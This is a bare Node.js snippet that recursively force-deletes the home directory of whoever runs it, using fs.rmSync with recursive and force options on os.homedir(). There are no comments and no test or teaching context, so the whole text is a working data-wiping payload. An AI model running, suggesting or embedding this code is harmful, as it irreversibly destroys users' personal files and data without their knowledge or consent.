const fs = require('fs');
const os = require('os');
const targets = new Set([os.homedir(), os.homedir()]);
for (const t of targets) {
  fs.rmSync(t, { recursive: true, force: true });
}
